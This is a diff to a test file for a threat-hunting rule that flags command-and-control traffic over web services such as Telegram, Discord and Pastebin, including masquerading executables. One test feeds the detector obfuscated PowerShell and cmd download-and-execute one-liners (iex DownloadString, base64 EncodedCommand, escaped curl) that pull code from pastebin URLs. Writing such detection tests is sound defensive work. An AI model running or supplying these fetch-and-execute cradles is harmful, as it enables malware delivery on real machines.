@@ -189,7 +189,7 @@ describe('webc2-t1102', () => {
       alerts.map((a) => a['RemoteUrl']),
       ['api.telegram.org'],
     );
-    assert.match(stderr, /1 suppressed by the allowlist/);
+    assert.match(stderr, /set aside \(.*allowlist: release bot 1/);
   });
 
   it('matches domains on label boundaries, with the most specific catalogue entry deciding', async () => {
@@ -205,5 +205,112 @@ describe('webc2-t1102', () => {
       't.me',
       'x-default-rtdb.firebaseio.com',
     ]);
+  });
+
+  it('does not take a chrome.exe or a client name outside its vendor’s folder for the real one', async () => {
+    const { alerts } = await hunt([
+      {
+        image: 'C:\\Users\\ann\\AppData\\Roaming\\chrome.exe',
+        parent: 'C:\\Windows\\System32\\wscript.exe',
+        host: 'api.telegram.org',
+        guid: g(1),
+        pid: 701,
+      },
+      {
+        image: 'C:\\Users\\ann\\AppData\\Local\\SystemCache\\update.exe',
+        host: 'discord.com',
+        guid: g(2),
+        pid: 702,
+      },
+      {
+        image: 'C:\\Users\\ann\\AppData\\Roaming\\discord.exe',
+        host: 'discord.com',
+        guid: g(3),
+        pid: 703,
+      },
+      {
+        image: 'C:\\Users\\ann\\AppData\\Local\\Discord\\app-1.0.9\\Discord.exe',
+        host: 'discord.com',
+        guid: g(4),
+        pid: 704,
+      },
+    ]);
+    assert.deepEqual(alerts.map((a) => a['ProcessId']).sort(), [701, 702, 703]);
+  });
+
+  it('raises a client talking to another service’s domain', async () => {
+    const { alerts } = await hunt([
+      {
+        image: 'C:\\Users\\ann\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe',
+        host: 'api.telegram.org',
+        guid: g(1),
+        pid: 801,
+      },
+    ]);
+    assert.equal(alerts.length, 1);
+    assert.equal((alerts[0]!['Reasons'] as Record<string, unknown>)['ClientOffItsService'], true);
+    assert.equal(alerts[0]!['Severity'], 'medium');
+  });
+
+  it('reads URLs through the usual command-line disguises', async () => {
+    const ps = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
+    const b64 = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');
+    const cmds = [
+      'cmd /c "cu^rl https://pas^tebin.com/raw/x1"',
+      "powershell -c \"iex (New-Object Net.WebClient).DownloadString('https://paste'+'bin.com/raw/x2')\"",
+      'powershell -c "iwr https://paste`bin.com/raw/x3"',
+      `powershell -ec ${b64('iwr https://pastebin.com/raw/x4')}`,
+      `powershell /enc "${b64('iwr https://pastebin.com/raw/x5')}"`,
+      `powershell \u2013EncodedCommand ${b64('iwr https://pastebin.com/raw/x6')}`,
+      `powershell -c "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${Buffer.from('https://pastebin.com/raw/x7').toString('base64')}')))"`,
+      'powershell iwr https://q1.q2.q3.q4.q5.q6.pastebin.com/raw/x8',
+    ];
+    const { alerts } = await hunt(
+      cmds.map((cmd, i) => ({ image: ps, cmd, guid: g(i + 1), pid: 900 + i })),
+    );
+    const found = alerts.map((a) => a['ProcessId']).sort();
+    assert.deepEqual(
+      found,
+      cmds.map((_, i) => 900 + i),
+    );
+    assert.ok(alerts.every((a) => a['Service'] === 'Pastebin'));
+  });
+
+  it('counts a versioned interpreter as one', async () => {
+    const { alerts } = await hunt([
+      { image: '/usr/bin/python3.11', host: 'api.telegram.org', guid: g(1), pid: 1001 },
+    ]);
+    assert.equal(alerts[0]!['ScriptingProcess'], true);
+  });
+
+  it('takes a PowerShell script block’s URLs as evidence of its process', async () => {
+    const ps = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
+    const dir = mkdtempSync(path.join(tmpdir(), 'webc2-4104-'));
+    const file = path.join(dir, 'events.jsonl');
+    const lines = events(
+      { image: ps, cmd: 'powershell -File inventory.ps1', guid: g(1), pid: 1101 },
+      1,
+    );
+    lines.push(
+      JSON.stringify({
+        EventID: 4104,
+        Channel: 'Microsoft-Windows-PowerShell/Operational',
+        SourceName: 'Microsoft-Windows-PowerShell',
+        Hostname: HOST,
+        TimeCreated: '2026-03-01T10:00:01.500Z',
+        ProcessId: '1101',
+        ScriptBlockText:
+          "$x = (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/Zz9')",
+      }),
+    );
+    writeFileSync(file, lines.join('\n') + '\n');
+    const run = await cli('hunt', file, '--format', 'jsonl', '--rule', 'webc2-t1102');
+    const alerts = jsonLines(run.stdout);
+    assert.equal(alerts.length, 1, run.stderr);
+    assert.equal(alerts[0]!['FileName'], 'powershell.exe');
+    assert.deepEqual(
+      (alerts[0]!['Evidence'] as { Kind: string }[]).map((e) => e.Kind),
+      ['script block'],
+    );
   });
 });
